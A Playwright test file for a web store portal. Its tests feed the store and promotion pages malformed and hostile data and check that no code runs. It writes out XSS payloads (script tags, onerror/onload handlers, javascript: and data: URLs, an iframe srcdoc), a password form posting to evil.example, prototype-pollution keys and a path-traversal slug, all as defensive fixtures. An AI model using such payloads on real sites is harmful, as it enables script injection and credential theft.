import type { Page } from '@playwright/test';
import { openSession, expect, sites, test } from './fixtures.ts';

const store = `${sites.portal}graphistore`;
const cors = {
  'access-control-allow-origin': new URL(sites.portal).origin,
  'access-control-allow-headers': 'authorization, content-type, if-none-match',
};

/** A made-up response to one call of the page. */
async function answer(page: Page, path: RegExp, json: unknown): Promise<void> {
  await page.route(path, (route) => route.fulfill({ json, headers: cors }));
}
const items = /customer(%2F|\/)store/;
const check = /check_cod_gs/;
const announcements = /orders(%2F|\/)promoActive/;

const good = { slug: 'good', nome: 'Good Book', filter_class: 'album', family: 'wedding', link_buy: '/x' };
const attack = '<img src=x onerror="window.taRan=1"><script>window.taRan=1</script>';
const hostile: readonly unknown[] = [
  null,
  7,
  'text',
  [],
  {},
  { slug: null, nome: null, foto: null, filter_class: null, child: null, promo_connection: null },
  { slug: '__proto__', nome: '__proto__', filter_class: '__proto__ constructor', family: '__proto__' },
  {
    ...good,
    slug: 'typed',
    nome: 'Wrong Types',
    description: 9,
    child: 'x',
    promo_connection: 7,
    date_filter: '',
  },
  { ...good, slug: 'nested', nome: 'Nested', promo_filter: [null, {}, { id_promo: [] }], prezzo_da: 'a lot' },
  {
    ...good,
    slug: 'attack',
    nome: attack,
    description: attack,
    foto: 'javascript:window.taRan=1',
    link_info: 'javascript:window.taRan=1',
    link_buy: 'data:text/html,<script>window.taRan=1</script>',
    is_active_page: true,
  },
  { ...good, slug: '../../login?x=', nome: 'Path Book', is_active_page: true },
  { ...good, slug: 'long', nome: 'L'.repeat(4_000), description: 'd '.repeat(20_000) },
  good,
];

test('items of every wrong shape: valid ones are shown, no code runs, nothing leaves the portal (STORE-35, ERR2-13)', async ({
  page,
}) => {
  await answer(page, items, hostile);
  // Numbers as texts, and texts that are none (PROMO-52).
  await answer(page, check, {
    currency: 'EUR',
    promo: [
      { id_promo: '901', discount: { wedding: '15' }, sample_discount: { wedding: ' 50 ' } },
      { id_promo: 7, discount: 'all', prezzo_fisso: { wedding: 'cheap' }, articoli_limits: 'x' },
      { id_promo: null, discount: { wedding: 1e9 }, coupon: { wedding: 'NO' } },
      null,
      'x',
    ],
  });
  await openSession(page, 'uk');
  await page.goto(store);
  const card = page.getByRole('article', { name: 'Good Book', exact: true });
  await expect(card).toBeVisible();
  await expect(card.locator('[part=badges] li')).toHaveText(['-15%', 'Samples -50%']);
  await expect(page.getByRole('article', { name: 'Wrong Types' })).toBeVisible();
  const links = await page
    .getByRole('tabpanel')
    .locator('a[href], img[src]')
    .evaluateAll((all) => all.map((each) => each.getAttribute('href') ?? each.getAttribute('src') ?? ''));
  expect(links.filter((link) => /^(javascript|data|vbscript):/i.test(link))).toEqual([]);
  await expect(page.getByRole('link', { name: 'INFO: Path Book' })).toHaveAttribute(
    'href',
    /\/ta\/product\/\.\.%2F\.\.%2Flogin%3Fx%3D$/,
  );
  expect(await page.evaluate(() => 'taRan' in window)).toBe(false);
  expect(await page.evaluate(() => document.documentElement.scrollWidth <= window.innerWidth)).toBe(true);
});

test('of 5,000 items one screen is drawn, the rest on scroll; a search finds the last (STORE-45, STORE-62)', async ({
  page,
}) => {
  const many = Array.from({ length: 5_000 }, (_, index) => ({
    ...good,
    slug: `book-${index}`,
    nome: `Book number ${index}`,
    filter_class: index % 2 === 0 ? 'album' : 'book new',
  }));
  await answer(page, items, many);
  await openSession(page, 'uk');
  await page.goto(store);
  await expect(page.getByRole('status').filter({ hasText: '5,000 products' })).toBeVisible();
  const cards = page.getByRole('tabpanel').getByRole('article');
  expect(await cards.count()).toBeLessThanOrEqual(180);
  const before = await cards.count();
  await cards.last().scrollIntoViewIfNeeded();
  await expect.poll(() => cards.count()).toBeGreaterThan(before);
  await page.getByRole('searchbox').fill('number 4999');
  await expect(cards).toHaveCount(1);
  await expect(page.getByRole('article', { name: 'Book number 4999' })).toBeVisible();
  await page.getByRole('searchbox').fill('');
  // Without delay: the typed text counts before it is in the address.
  await page.getByRole('tab', { name: 'NEW' }).click();
  await expect(page.getByRole('status').filter({ hasText: '2,500 products' })).toBeVisible();
});

test('broken images keep their space; nothing moves while images load (docs/look.md, Store)', async ({
  page,
  guard,
}) => {
  guard.allow(/Failed to load resource/);
  await page.addInitScript(() => {
    const moved = { sum: 0 };
    Object.assign(window, { moved });
    new PerformanceObserver((list) => {
      for (const entry of list.getEntries() as (PerformanceEntry & {
        value: number;
        hadRecentInput: boolean;
      })[])
        if (!entry.hadRecentInput) moved.sum += entry.value;
    }).observe({ type: 'layout-shift', buffered: true });
  });
  await page.route(/\/pictures\/gobook-/, (route) => route.abort());
  await openSession(page, 'uk');
  await page.goto(`${store}/book`);
  const boxOf = (name: string) =>
    page.getByRole('article', { name, exact: true }).locator('.ta-store-card__stage').boundingBox();
  await expect(page.getByRole('article', { name: 'Go Book', exact: true }).locator('img')).toHaveCount(0);
  // Every image on the screen has loaded or failed.
  await expect
    .poll(() =>
      page
        .getByRole('img')
        .evaluateAll(
          (all) =>
            all.filter(
              (each) =>
                each instanceof HTMLImageElement &&
                !each.complete &&
                each.getBoundingClientRect().top < window.innerHeight,
            ).length,
        ),
    )
    .toBe(0);
  const [dead, shown] = [await boxOf('Go Book'), await boxOf('Story Book')];
  expect(dead?.height).toBeCloseTo(shown?.height ?? 0, 0);
  expect((dead?.width ?? 0) / (dead?.height ?? 1)).toBeCloseTo(4 / 3, 1);
  expect(await page.evaluate(() => (window as unknown as { moved: { sum: number } }).moved.sum)).toBeLessThan(
    0.1,
  );
});

test('a hostile announcement is reduced to text and images (DEC-15, PROMO-44)', async ({ page }) => {
  const html = [
    attack,
    '<h2>Linen week</h2><p onclick="taRan=1" style="position:fixed;inset:0;z-index:9999">Seven colours</p>',
    '<style>body{display:none}</style><svg onload="taRan=1"><script>taRan=1</script></svg>',
    '<form action="https://evil.example"><input name=password></form><iframe srcdoc="<script>top.taRan=1</script>">',
    '<a href="javascript:taRan=1">Press</a><a href="/ta/graphistore" target="_top">Store</a>',
  ].join('');
  const promotion = {
    promo: '901',
    email: { oggetto_en: `Linen ${attack}` },
    email_img: 'javascript:taRan=1',
    overlay_html_big: html,
    overlay_html: html,
    date_validity_string: attack,
    ts_start: '2026-11-01 00:00:00',
    ts_end: 7,
    is_active: '1',
  };
  await answer(page, announcements, { items: [null, 7, {}, promotion], overlay: '{"img":"javascript:1"' });
  await openSession(page, 'uk');
  await page.goto(`${sites.portal}promotions?openpromo=901`);
  const dialog = page.getByRole('dialog');
  await expect(dialog.getByRole('heading', { name: 'Linen week' })).toBeVisible();
  await expect(dialog.getByText('Seven colours')).toBeVisible();
  const inside = await dialog.locator('.ta-html').evaluate((root) => {
    const all = [...root.querySelectorAll('*')];
    return {
      names: all
        .map(({ localName }) => localName)
        .filter((name) => /script|style|svg|form|input|iframe/.test(name)),
      handlers: all.flatMap((each) => each.getAttributeNames()).filter((name) => name.startsWith('on')),
      fixed: all.filter((each) => /fixed|absolute|sticky/.test(getComputedStyle(each).position)).length,
      schemes: all.map((each) => each.getAttribute('href') ?? '').filter((href) => /^javascript/i.test(href)),
    };
  });
  expect(inside).toEqual({ names: [], handlers: [], fixed: 0, schemes: [] });
  await page.keyboard.press('Escape');
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  expect(await page.evaluate(() => 'taRan' in window)).toBe(false);
});
